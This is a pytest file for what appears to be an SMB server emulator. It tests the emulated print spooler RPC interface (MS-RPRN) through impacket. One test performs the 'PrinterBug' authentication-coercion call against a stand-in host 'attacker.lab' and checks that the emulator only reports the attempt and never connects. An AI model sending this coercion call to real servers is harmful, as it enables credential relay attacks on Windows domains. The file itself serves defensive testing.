"""spoolss (MS-RPRN) through the real RPC endpoint, driven by impacket's rprn client (its
decoder is the NDR-strictness check of every answer)."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import struct

import pytest
from impacket.dcerpc.v5 import rprn  # type: ignore[import-untyped]
from impacket.dcerpc.v5.dtypes import NULL  # type: ignore[import-untyped]
from impacket.dcerpc.v5.rpcrt import DCERPCException  # type: ignore[import-untyped]

ERROR_ACCESS_DENIED = 5
ERROR_INVALID_HANDLE = 6
ERROR_INSUFFICIENT_BUFFER = 122
ERROR_INVALID_LEVEL = 124
ERROR_INVALID_PRINTER_NAME = 1801
RPC_S_SERVER_UNAVAILABLE = 1722
NCA_S_OP_RNG_ERROR = 0x1C010002


def _string(blob: bytes, base: int, offset: int) -> str | None:
    """A string of a custom-marshaled buffer (MS-RPRN 2.2.2): offset relative to its structure;
    it must lie inside the buffer and end with a NUL."""
    if offset == 0:
        return None
    start = base + offset
    assert 0 < start < len(blob) and start % 2 == 0
    end = start
    while blob[end:end + 2] != b"\x00\x00":
        end += 2
        assert end < len(blob), "unterminated string"
    return blob[start:end].decode("utf-16-le")


def _code(exc: BaseException) -> int:
    return int(exc.get_error_code())  # type: ignore[attr-defined]


def _dce(pipes_h: Any, profile: str, kind: str, server: Any = None) -> Any:
    return pipes_h.impacket_dce(server or pipes_h.fresh_config(profile), "spoolss", kind)


def _enum(dce: Any, level: int, flags: int = rprn.PRINTER_ENUM_LOCAL, name: Any = NULL) -> Any:
    """The buffer-size dance by hand: the first call with no buffer, the second with pcbNeeded."""
    def request(buffer: Any, size: int) -> Any:
        # a new request each time: impacket keeps a pointer once set to NULL
        call = rprn.RpcEnumPrinters()
        call["Flags"], call["Name"], call["Level"] = flags, name, level
        call["pPrinterEnum"], call["cbBuf"] = buffer, size
        return dce.request(call)

    with pytest.raises(DCERPCException) as info:
        request(NULL, 0)
    assert _code(info.value) == ERROR_INSUFFICIENT_BUFFER
    needed = info.value.get_packet()["pcbNeeded"]
    assert needed > 0
    return request(b"\x00" * needed, needed)


def test_every_ms_rprn_opnum_is_declared(pipe_client: Callable[..., Any]) -> None:
    iface = pipe_client("spoolss", "administrator", "win2016").interface
    assert str(iface.uuid) == "12345678-1234-abcd-ef00-0123456789ab" and iface.version == (1, 0)
    assert sorted(iface.operations) == list(range(124))
    for opnum, (req, _) in rprn.OPNUMS.items():
        assert iface.operations[opnum].name == req.__name__, opnum


def test_enum_printers_level_1_lists_the_printer_share(pipes_h: Any) -> None:
    """The printer's name starts with the server as the client named it (an IP address here;
    MS-RPRN 3.1.4.2.1 product behaviour)."""
    dce = _dce(pipes_h, "win2016", "administrator")
    resp = _enum(dce, 1, name="\\\\127.0.0.1\x00")
    assert resp["pcReturned"] == 1
    blob = b"".join(resp["pPrinterEnum"])
    flags, description, name, comment = struct.unpack_from("<IIII", blob)
    assert flags == 0x00800000  # PRINTER_ENUM_ICON8 (MS-RPRN 2.2.1.10.2)
    assert _string(blob, 0, name) == "\\\\127.0.0.1\\HPLJ4250"
    assert _string(blob, 0, comment) == "HP LaserJet 4250 - 2nd floor"
    assert _string(blob, 0, description) == "\\\\127.0.0.1\\HPLJ4250,Generic / Text Only,"


@pytest.mark.parametrize("level", [0, 2, 4, 5])
def test_enum_printers_other_levels(pipes_h: Any, level: int) -> None:
    resp = _enum(_dce(pipes_h, "win2016", "user"), level, name="\\\\LEGACYSRV\x00")
    assert resp["pcReturned"] == 1
    blob = b"".join(resp["pPrinterEnum"])
    # pPrinterName is the first pointer of levels 2 (after pServerName), 4 and 5
    first = {0: 0, 2: 4, 4: 0, 5: 0}[level]
    assert _string(blob, 0, struct.unpack_from("<I", blob, first)[0]) == \
        "\\\\LEGACYSRV\\HPLJ4250"


def test_enum_printers_invalid_level_and_network(pipes_h: Any) -> None:
    dce = _dce(pipes_h, "win2016", "administrator")
    with pytest.raises(DCERPCException) as info:
        rprn.hRpcEnumPrinters(dce, rprn.PRINTER_ENUM_LOCAL, NULL, 3)
    assert _code(info.value) == ERROR_INVALID_LEVEL
    resp = rprn.hRpcEnumPrinters(dce, rprn.PRINTER_ENUM_NETWORK, NULL, 1)
    assert resp["pcReturned"] == 0


def test_open_get_close(pipes_h: Any) -> None:
    dce = _dce(pipes_h, "win2016", "user")
    handle = rprn.hRpcOpenPrinter(dce, "\\\\LEGACYSRV\\HPLJ4250",
                                  accessRequired=0x02000000)["pHandle"]
    for level in (1, 2, 3, 4, 5, 7, 8):
        call = _get_printer(dce, handle, level)
        assert call["pcbNeeded"] > 0, level
    with pytest.raises(DCERPCException) as info:
        _get_printer(dce, handle, 6)
    assert _code(info.value) == ERROR_INVALID_LEVEL
    rprn.hRpcClosePrinter(dce, handle)
    with pytest.raises(DCERPCException) as info:
        rprn.hRpcClosePrinter(dce, handle)
    assert "nca_s_fault_context_mismatch" in str(info.value)


def _get_printer(dce: Any, handle: bytes, level: int) -> Any:
    """RpcGetPrinter with the buffer dance (impacket has no helper for it): raw stub."""
    from impacket.dcerpc.v5.ndr import NDRCALL  # type: ignore[import-untyped]
    from impacket.dcerpc.v5.dtypes import DWORD  # type: ignore[import-untyped]

    class RpcGetPrinter(NDRCALL):  # MS-RPRN 3.1.4.2.6
        opnum = 8
        structure = (("hPrinter", rprn.PRINTER_HANDLE), ("Level", DWORD),
                     ("pPrinter", rprn.PBYTE_ARRAY), ("cbBuf", DWORD))

    def call(buffer: Any, size: int) -> Any:
        request = RpcGetPrinter()
        request["hPrinter"], request["Level"] = handle, level
        request["pPrinter"], request["cbBuf"] = buffer, size
        dce.call(request.opnum, request)
        return dce.recv()

    answer = call(NULL, 0)
    status = struct.unpack("<I", answer[-4:])[0]
    if status != ERROR_INSUFFICIENT_BUFFER:
        raise DCERPCException(error_code=status)
    needed = struct.unpack("<I", answer[-8:-4])[0]
    answer = call(b"\x00" * needed, needed)
    status = struct.unpack("<I", answer[-4:])[0]
    if status:
        raise DCERPCException(error_code=status)
    return {"pcbNeeded": needed, "raw": answer}


@pytest.mark.parametrize("name,status", [
    ("\\\\LEGACYSRV\\NoSuchPrinter", ERROR_INVALID_PRINTER_NAME),
    ("\\\\OTHERHOST", ERROR_INVALID_PRINTER_NAME),
    ("\\\\LEGACYSRV\\HPLJ4250,XcvMonitor Local Port", ERROR_INVALID_PRINTER_NAME)])
def test_open_unknown_names(pipes_h: Any, name: str, status: int) -> None:
    with pytest.raises(DCERPCException) as info:
        rprn.hRpcOpenPrinter(_dce(pipes_h, "win2016", "administrator"), name)
    assert _code(info.value) == status


def test_user_may_not_open_for_administration(pipes_h: Any) -> None:
    dce = _dce(pipes_h, "win2016", "user")
    with pytest.raises(DCERPCException) as info:
        rprn.hRpcOpenPrinter(dce, "\\\\LEGACYSRV\\HPLJ4250", accessRequired=0x000F000C)
    assert _code(info.value) == ERROR_ACCESS_DENIED
    admin = _dce(pipes_h, "win2016", "administrator")
    rprn.hRpcOpenPrinter(admin, "\\\\LEGACYSRV\\HPLJ4250", accessRequired=0x000F000C)


def test_anonymous_token_without_everyone_is_refused(pipes_h: Any) -> None:
    """2003: spoolss is a null-session pipe, but the anonymous token lacks Everyone."""
    dce = _dce(pipes_h, "win2003", "anonymous")
    with pytest.raises(DCERPCException) as info:
        rprn.hRpcEnumPrinters(dce, rprn.PRINTER_ENUM_LOCAL, NULL, 1)
    assert _code(info.value) == ERROR_ACCESS_DENIED
    # Windows 2000: anonymous is in Everyone (EveryoneIncludesAnonymous), the list answers.
    assert rprn.hRpcEnumPrinters(_dce(pipes_h, "win2000", "anonymous"),
                                 rprn.PRINTER_ENUM_LOCAL, NULL, 1)["pcReturned"] == 1


def test_printer_bug_never_connects_and_is_reported(pipes_h: Any) -> None:
    server = pipes_h.fresh_config("win2016-dc")
    seen: list[Any] = []
    server.observers.subscribe(seen.append)
    dce = _dce(pipes_h, "", "user", server)
    handle = rprn.hRpcOpenPrinter(dce, "\\\\10.0.0.1\x00")["pHandle"]
    with pytest.raises(DCERPCException) as info:
        rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(
            dce, handle, rprn.PRINTER_CHANGE_ADD_JOB, pszLocalMachine="\\\\attacker.lab\x00")
    assert _code(info.value) == RPC_S_SERVER_UNAVAILABLE
    assert "RPC_S_SERVER_UNAVAILABLE" in str(info.value)  # what printerbug.py looks for
    events = [e for e in seen if type(e).__name__ == "PrinterCallbackRequested"]
    assert len(events) == 1
    assert events[0].target == "\\\\attacker.lab" and events[0].principal.kind.value == "user"
    assert events[0].operation == "RpcRemoteFindFirstPrinterChangeNotificationEx"


@pytest.mark.parametrize("target", ["\\\\127.0.0.1", "\\\\LEGACYSRV", "\\\\legacysrv.corp.local"])
def test_a_callback_to_the_server_itself_is_an_invalid_handle(pipes_h: Any, target: str) -> None:
    """impacket's test_rprn (written against Windows Server) names the server itself as the
    machine to call back and expects ERROR_INVALID_HANDLE; the request is still reported."""
    server = pipes_h.fresh_config("win2016-dc")
    seen: list[Any] = []
    server.observers.subscribe(seen.append)
    dce = _dce(pipes_h, "", "administrator", server)
    handle = rprn.hRpcOpenPrinter(dce, "\\\\127.0.0.1\x00")["pHandle"]
    with pytest.raises(DCERPCException) as info:
        rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(
            dce, handle, rprn.PRINTER_CHANGE_ADD_JOB, pszLocalMachine=target + "\x00")
    assert _code(info.value) == ERROR_INVALID_HANDLE
    events = [e for e in seen if type(e).__name__ == "PrinterCallbackRequested"]
    assert [e.target for e in events] == [target] and events[0].status == ERROR_INVALID_HANDLE


def test_printer_data_of_the_server(pipes_h: Any) -> None:
    dce = _dce(pipes_h, "win2016", "user")
    handle = rprn.hRpcOpenPrinter(dce, NULL)["pHandle"]
    from impacket.dcerpc.v5.ndr import NDRCALL  # type: ignore[import-untyped]
    from impacket.dcerpc.v5.dtypes import DWORD, WSTR  # type: ignore[import-untyped]

    class RpcGetPrinterData(NDRCALL):  # MS-RPRN 3.1.4.2.7
        opnum = 26
        structure = (("hPrinter", rprn.PRINTER_HANDLE), ("pValueName", WSTR), ("nSize", DWORD))

    def get(name: str, size: int) -> tuple[int, int, bytes, int]:
        request = RpcGetPrinterData()
        request["hPrinter"], request["pValueName"], request["nSize"] = handle, name + "\x00", size
        dce.call(request.opnum, request)
        answer = dce.recv()
        kind, count = struct.unpack_from("<II", answer)
        data = answer[8:8 + count]
        needed, status = struct.unpack_from("<II", answer, 8 + count + (-count % 4))
        return kind, needed, data, status

    assert get("Architecture", 0)[3] == 234  # ERROR_MORE_DATA with pcbNeeded
    kind, needed, data, status = get("Architecture", 64)
    assert (kind, status) == (1, 0) and data[:needed].decode("utf-16-le") == "Windows x64\x00"
    kind, needed, data, status = get("MajorVersion", 4)
    assert (kind, struct.unpack("<I", data)[0], status) == (4, 3, 0)
    kind, needed, data, status = get("OSVersion", 276)
    assert struct.unpack_from("<IIII", data) == (276, 10, 0, 14393) and status == 0
    assert get("NoSuchValue", 16)[3] == 2


@pytest.mark.parametrize("profile", ["nt4", "win2000", "win2016-dc", "win2022"])
def test_every_opnum_answers_without_range_error(pipes_h: Any, pipe_client: Callable[..., Any],
                                                 profile: str) -> None:
    """Every declared opnum, with an empty stub and with a valid handle and zero arguments: a
    return value or the fault Windows gives (op_rng only for NotUsedOnWire / later releases)."""
    client = pipe_client("spoolss", "administrator", profile)
    iface = client.interface
    from smbemu_pipes.spoolss.others import NOT_USED_ON_WIRE, _SINCE

    version = client.server.profile.identity.version
    build = client.server.profile.identity.build
    for opnum in range(124):
        newer = opnum in _SINCE and (version < _SINCE[opnum][0] or build < _SINCE[opnum][1])
        if opnum in NOT_USED_ON_WIRE or newer:
            assert client.fault(opnum, bytes(64)) == NCA_S_OP_RNG_ERROR, opnum
            continue
        try:
            client.raw(opnum, bytes(256))
        except pipes_h.CallFault as fault:
            # a zero handle is an unknown one; a malformed stub is an NDR fault
            assert fault.status != NCA_S_OP_RNG_ERROR, opnum


@pytest.mark.parametrize("printer", [False, True])
def test_every_other_opnum_with_a_valid_handle(pipe_client: Callable[..., Any],
                                               printer: bool) -> None:
    """Each opnum of pipes/spoolss/others.py on a live handle answers a status, never a fault:
    writes ERROR_ACCESS_DENIED, reads not emulated ERROR_NOT_SUPPORTED, a wrong handle kind
    ERROR_INVALID_HANDLE (HRESULT forms for the HRESULT calls)."""
    from smbemu_pipes.spoolss.others import SPECS, _SINCE

    client = pipe_client("spoolss", "administrator", "win2022")
    name = "\\\\LEGACYSRV\\HPLJ4250" if printer else None
    opened = client.call(1, pPrinterName=name, AccessRequired=0x02000000)
    assert opened["ReturnValue"] == 0
    handle = opened["pHandle"]
    for opnum, _name, kind, needs, _in, _out, returns in SPECS:
        if opnum in _SINCE and client.server.profile.identity.build < _SINCE[opnum][1]:
            continue
        stub = (handle if needs else b"") + bytes(64)
        answer = client.raw(opnum, stub)
        status = struct.unpack("<I", answer[-4:])[0]
        if returns == "HRESULT":
            status &= 0xFFFF
        wrong = needs in ("xcv", "gdi", "notify") or (needs == "printer" and not printer)
        expected = 6 if wrong else 5 if kind == "write" else 50
        assert status == expected, (opnum, _name, status)


@pytest.mark.parametrize("profile,shared,present", [
    ("win2016", True, True), ("win2016", False, False),
    # before 2003 the spooler always creates its named-pipe endpoint
    ("win2000", False, True), ("nt4", False, True)])
def test_pipe_exists_while_the_spooler_runs_and_shares_a_printer(profile: str, shared: bool,
                                                                 present: bool) -> None:
    from smbemu.builder import build_config
    from smbemu_pipes.spoolss import spooler_running

    config = build_config(profile, None if shared else "minimal")
    assert spooler_running(config) is present


def test_stopping_the_spooler_removes_the_pipe(pipes_h: Any) -> None:
    from smbemu.service_catalog import find, set_running
    from smbemu_pipes.spoolss import spooler_running

    config = pipes_h.fresh_config("win2016-dc")
    assert spooler_running(config)
    set_running(config, find(config.profile, "Spooler"), False)
    assert not spooler_running(config)
